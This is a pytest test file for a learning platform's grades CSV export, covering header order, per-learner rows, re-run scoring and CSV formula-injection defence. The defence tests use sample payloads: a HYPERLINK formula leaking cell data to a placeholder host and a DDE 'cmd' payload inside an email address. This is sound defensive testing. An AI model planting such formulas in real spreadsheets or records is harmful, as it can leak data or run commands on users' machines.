"""Grades CSV: the columns, one row per learner, and ``designlab export`` writing the same."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from app.cli import main
from app.db import make_engine, make_sessionmaker, upgrade
from app.export import grades_csv, header, spreadsheet_safe
from app.instructor.class_progress import class_table
from app.models import Role, User
from app.settings import get_settings
from tests.instructor.classroom import build_class
from tests.instructor.second_course import SECOND_COURSE

runner = CliRunner()


def test_the_header_names_each_step_by_its_id_in_course_order(session, second_course):
    assert header(class_table(session, second_course)) == [
        "learner_id",
        "email",
        "size-the-group",
        "commit-after-work",
        "park-poison-orders",
        "total",
        "max_total",
        "first_activity",
        "last_activity",
        "steps_passed",
        "steps_to_rerun",
        "steps_unavailable",
        "learner",
    ]


def test_the_csv_has_a_row_per_learner_with_crlf_line_ends(session, second_course):
    ids = build_class(session)
    text = grades_csv(class_table(session, second_course))
    assert text.count("\r\n") == 5
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:7] == [
        str(ids["ana@example.com"]),
        "ana@example.com",
        "10",
        "10",
        "4",
        "24",
        "30",
    ]
    assert rows[4][:7] == [str(ids["dee@example.com"]), "dee@example.com", "0", "0", "0", "0", "30"]
    assert rows[4][7:] == ["", "", "0", "0", "", "dee@example.com"]
    # ana passed two steps, none waits for a re-run, every step is available
    assert rows[1][9:] == ["2", "0", "", "ana@example.com"]


@pytest.fixture
def env_db(tmp_path, monkeypatch):
    """DATABASE_URL and STEPS_DIR for the CLI: a migrated SQLite file and the second course."""
    url = f"sqlite:///{tmp_path / 'var' / 'export.sqlite3'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("STEPS_DIR", str(SECOND_COURSE))
    monkeypatch.setenv("ENV", "development")
    get_settings.cache_clear()
    upgrade(url)
    yield url
    get_settings.cache_clear()


def class_in(url: str) -> dict[str, int]:
    with make_sessionmaker(make_engine(url))() as session:
        ids = build_class(session)
        session.commit()
    return ids


def test_designlab_export_prints_the_csv(env_db, second_course):
    class_in(env_db)
    result = runner.invoke(main, ["export"])
    assert result.exit_code == 0, result.output
    with make_sessionmaker(make_engine(env_db))() as session:
        expected = grades_csv(class_table(session, second_course))
    assert result.stdout == expected.replace("\r\n", "\n")  # the runner reads text mode
    assert result.stdout.splitlines()[2].split(",")[1:7] == [
        "bo@example.com",
        "10",
        "10",
        "0",
        "20",
        "30",
    ]


def test_designlab_export_out_writes_the_file(env_db, tmp_path):
    class_in(env_db)
    out = tmp_path / "grades.csv"
    result = runner.invoke(main, ["export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"wrote 4 learners to {out}" in result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [(r["email"], r["total"]) for r in rows] == [
        ("ana@example.com", "24"),
        ("bo@example.com", "20"),
        ("cy@example.com", "4"),
        ("dee@example.com", "0"),
    ]


def test_designlab_export_of_a_folder_without_a_course_is_bad_input(env_db, tmp_path):
    result = runner.invoke(main, ["export", "--steps-dir", str(tmp_path)])
    assert result.exit_code == 2
    assert "course.yaml" in result.output


def test_steps_whose_points_wait_for_a_re_run_are_counted(session, second_course):
    from app.progress import mark_needs_rerun
    from tests.instructor.second_course import COURSE_ID

    ids = build_class(session)
    mark_needs_rerun(session, ids["bo@example.com"], COURSE_ID, ["size-the-group"])
    rows = list(csv.DictReader(io.StringIO(grades_csv(class_table(session, second_course)))))
    bo = next(r for r in rows if r["email"] == "bo@example.com")
    assert (bo["steps_passed"], bo["steps_to_rerun"], bo["size-the-group"]) == ("1", "1", "10")
    # The total is the points that stand, as the learner's score so far shows them: bo had 20.
    assert bo["total"] == "10"


def test_the_class_total_is_the_learners_score_so_far(session, second_course):
    """The class page and the learner's rail agree: a step marked to re-run counts nothing in
    either until it is run again."""
    from app.progress import mark_needs_rerun, score_so_far, standings
    from tests.instructor.second_course import COURSE_ID

    ids = build_class(session)
    mark_needs_rerun(session, ids["bo@example.com"], COURSE_ID, ["size-the-group"])
    bo = next(r for r in class_table(session, second_course).rows if r.email == "bo@example.com")
    assert (bo.total, bo.to_rerun) == (10, 1)
    rail = score_so_far(standings(session, ids["bo@example.com"], second_course, None))
    assert (rail.points, rail.to_rerun) == (bo.total, bo.to_rerun)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_csv_cell_starting_with_a_formula_prefix_is_quoted(prefix):
    formula = f'{prefix}HYPERLINK("http://x.example/"&A1)'
    assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_safe("ana@example.com") == "ana@example.com"
    assert spreadsheet_safe(12) == 12


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_an_email_that_is_a_formula_is_exported_as_text(session, second_course, prefix):
    """An address stored before emails were validated (or a valid one like ``=1+1@x.org``)."""
    email = f"{prefix}2+5+cmd|' /C calc'!A0@example.com"
    session.add(User(email=email, role=Role.learner))
    session.flush()
    rows = list(csv.DictReader(io.StringIO(grades_csv(class_table(session, second_course)))))
    assert [row["email"] for row in rows] == ["'" + email]
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_designlab_export_quotes_a_formula(env_db):
    with make_sessionmaker(make_engine(env_db))() as session:
        session.add(User(email="=1+1@example.com", role=Role.learner))
        session.commit()
    result = runner.invoke(main, ["export"])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1].split(",")[1] == "'=1+1@example.com"


def test_the_grades_download_quotes_a_formula(make_client, make_settings):
    from tests.instructor.signing_in import add_user, sign_in

    client = make_client(steps_dir=SECOND_COURSE)
    settings = make_settings()
    add_user(settings, "ina@example.com", Role.instructor)
    add_user(settings, "-2+3@example.com", Role.learner)
    sign_in(client, "ina@example.com")
    rows = list(csv.DictReader(io.StringIO(client.get("/instructor/grades.csv").text)))
    assert "'-2+3@example.com" in [row["email"] for row in rows]
